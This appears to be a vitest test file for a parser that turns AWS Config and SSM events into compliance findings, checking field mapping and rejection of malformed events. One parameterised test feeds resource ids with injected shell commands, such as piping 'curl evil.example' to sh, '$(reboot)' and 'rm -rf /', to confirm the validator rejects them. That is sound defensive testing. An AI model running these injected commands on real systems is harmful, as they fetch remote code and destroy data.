import { describe, expect, test } from 'vitest';
import { ValidationError } from '../../src/model/errors.ts';
import { NotAFindingError, parseFinding } from '../../src/events/finding.ts';
import { exampleEvent, variant } from '../helpers/events.ts';

const config = () => exampleEvent('config-rules-compliance-change-noncompliant');

function fieldOf(event: unknown): string {
  try {
    parseFinding(event);
  } catch (e) {
    if (e instanceof ValidationError) return e.field;
    throw e;
  }
  throw new Error('expected a ValidationError');
}

describe('event → finding', () => {
  test('a Config NON_COMPLIANT event becomes a config.noncompliant finding', () => {
    const f = parseFinding(config());
    expect(f).toMatchObject({
      family: 'config.noncompliant',
      eventId: '3f2b8c1e-5d4a-4b6e-9c7f-1a2b3c4d5e6f',
      account: '123456789012',
      region: 'us-east-1',
      resourceType: 'AWS::EC2::SecurityGroup',
      resourceId: 'sg-0a1b2c3d4e5f67890',
      rule: 'restricted-ssh',
      orderingTime: '2025-03-04T14:21:55.118Z',
    });
  });

  test('oldEvaluationResult is optional (first evaluation of a resource)', () => {
    const e = variant(config(), (v) => delete (v.detail as Record<string, unknown>).oldEvaluationResult);
    expect(parseFinding(e).resourceId).toBe('sg-0a1b2c3d4e5f67890');
  });

  test('a patch failure from Run Command becomes a patch.failed finding (kebab-case keys)', () => {
    const f = parseFinding(exampleEvent('ssm-command-invocation-status-change'));
    expect(f).toMatchObject({
      family: 'patch.failed',
      resourceType: 'AWS::EC2::Instance',
      resourceId: 'i-0fedcba9876543210',
      rule: 'AWS-RunPatchBaseline',
      detail: { status: 'Failed', source: 'command-invocation' },
    });
  });

  test('a Patch non_compliant compliance change becomes a patch.failed finding (lowercase values)', () => {
    const f = parseFinding(exampleEvent('ssm-configuration-compliance-patch-noncompliant'));
    expect(f).toMatchObject({
      family: 'patch.failed',
      resourceId: 'i-0fedcba9876543210',
      rule: 'Patch',
      detail: { severity: 'critical' },
    });
  });

  test('our own SSM Agent Disconnected event becomes an agent.disconnected finding', () => {
    const f = parseFinding({
      version: '0',
      id: 'a1',
      'detail-type': 'SSM Agent Disconnected',
      source: 'ssm-remediator',
      account: '123456789012',
      time: '2025-03-04T12:05:00Z',
      region: 'us-east-1',
      resources: [],
      detail: {
        instanceId: 'i-0123456789abcdef0',
        pingStatus: 'ConnectionLost',
        reason: 'connection-lost',
        consecutiveSweeps: 3,
        detectedAt: '2025-03-04T12:05:00Z',
      },
    });
    expect(f).toMatchObject({
      family: 'agent.disconnected',
      resourceId: 'i-0123456789abcdef0',
      orderingTime: '2025-03-04T12:05:00Z',
    });
  });
});

describe('malformed events are rejected with the field named', () => {
  test('missing detail', () => {
    expect(fieldOf(variant(config(), (v) => delete (v as Record<string, unknown>).detail))).toBe('detail');
  });
  test('unknown complianceType', () => {
    const e = variant(config(), (v) => {
      (v.detail.newEvaluationResult as Record<string, unknown>).complianceType = 'MAYBE';
    });
    expect(fieldOf(e)).toBe('detail.newEvaluationResult.complianceType');
  });
  test('COMPLIANT is not a finding', () => {
    const e = variant(config(), (v) => {
      (v.detail.newEvaluationResult as Record<string, unknown>).complianceType = 'COMPLIANT';
    });
    expect(fieldOf(e)).toBe('detail.newEvaluationResult.complianceType');
    expect(() => parseFinding(e)).toThrow(NotAFindingError);
  });
  test('an account-level rule (AWS::::Account, the account id) is a finding', () => {
    expect(parseFinding(exampleEvent('config-rules-compliance-change-account-level'))).toMatchObject({
      family: 'config.noncompliant',
      resourceType: 'AWS::::Account',
      resourceId: '123456789012',
      rule: 'cloudtrail-enabled',
    });
    const bad = variant(exampleEvent('config-rules-compliance-change-account-level'), (v) => {
      v.detail.resourceType = 'AWS::::Bucket';
    });
    expect(fieldOf(bad)).toBe('detail.resourceType');
  });
  test.each([
    ['ssm-calendar-state-change-open', 'Calendar State Change'],
    ['ssm-automation-execution-status-change', 'EC2 Automation Execution Status-change Notification'],
    ['ssm-command-status-change', 'EC2 Command Status-change Notification'],
    ['ec2-instance-state-change', 'EC2 Instance State-change Notification'],
    ['scheduled-event-agent-health-poll', 'Scheduled Event'],
  ])('%s is well-formed but not a finding', (name, detailType) => {
    expect(() => parseFinding(exampleEvent(name))).toThrow(
      expect.objectContaining({ name: 'NotAFindingError', detailType }),
    );
  });
  test('a malformed event of another type is invalid, not "not a finding"', () => {
    const e = variant(exampleEvent('ssm-calendar-state-change-open'), (v) => (v.account = 'x'));
    expect(fieldOf(e)).toBe('account');
    expect(() => parseFinding(e)).not.toThrow(NotAFindingError);
  });
  test.each([
    'sg-0a1b2c3d; curl evil.example | sh',
    'sg-$(reboot)',
    'sg-`id`',
    "sg-1' || true",
    'sg-1\nrm -rf /',
    'sg 1',
  ])('a resource id carrying shell characters: %j', (bad) => {
    expect(fieldOf(variant(config(), (v) => (v.detail.resourceId = bad)))).toBe('detail.resourceId');
  });
  test('a kebab-case key missing from a Run Command event', () => {
    const e = variant(
      exampleEvent('ssm-command-invocation-status-change'),
      (v) => delete v.detail['instance-id'],
    );
    expect(fieldOf(e)).toBe('detail.instance-id');
  });
  test('an event that is not an object', () => {
    expect(fieldOf('hello')).toBe('(event)');
    expect(fieldOf(null)).toBe('(event)');
  });
  test('an account that is not 12 digits', () => {
    expect(fieldOf(variant(config(), (v) => (v.account = '12345')))).toBe('account');
  });
  test('a detail-type the service does not handle', () => {
    expect(fieldOf(exampleEvent('ec2-instance-state-change'))).toBe('detail-type');
  });
});
